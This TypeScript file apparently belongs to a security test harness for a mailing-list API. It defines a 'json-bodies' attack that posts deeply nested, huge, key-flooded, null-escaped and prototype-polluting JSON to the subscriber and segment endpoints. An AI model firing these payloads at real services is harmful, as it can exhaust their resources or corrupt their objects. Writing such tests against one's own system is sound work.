import type { Attack } from '../attack.ts';

/** JSON that is small to send and large to hold, or deep. */
export const jsonBodies: Attack = {
  name: 'json-bodies',
  title:
    'JSON nested a million deep, of millions of tiny tokens, of a million keys, with escapes, and with prototype names',
  play: async ({ call, listId, size }) => {
    const scale = size === 'full' ? 1 : 0.1;
    const times = (text: string, count: number) => text.repeat(Math.round(count * scale));
    const bodies = [
      times('[', 1_000_000),
      `${times('[', 1_000_000)}${times(']', 1_000_000)}`,
      `${times('{"a":', 1_000_000)}1${times('}', 1_000_000)}`,
      `{"subscriber":{"email":[${times('1,', 20_000_000)}1]}}`,
      `{"subscriber":[${times('{},', 5_000_000)}1]}`,
      `{"subscriber":{${Array.from({ length: 1_000_000 * scale }, (_, i) => `"k${i}":0`).join(',')}}}`,
      `{"subscriber":{"email":"a@example.com","custom_fields":{${Array.from({ length: 500_000 * scale }, (_, i) => `"k${i}":0`).join(',')}}}}`,
      `{"subscriber":{"email":"${times('\\u0000', 1_000_000)}"}}`,
      `{"subscriber":{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}}}}`,
    ];
    for (const body of bodies) {
      await call('POST', `/mailing_lists/${listId}/subscribers`, body);
      await call('POST', `/mailing_lists/${listId}/segments`, body.replace('subscriber', 'segmentation_criteria'));
    }
    await Promise.all(bodies.slice(1, 5).map((body) => call('POST', `/mailing_lists/${listId}/subscribers`, body)));
  },
};
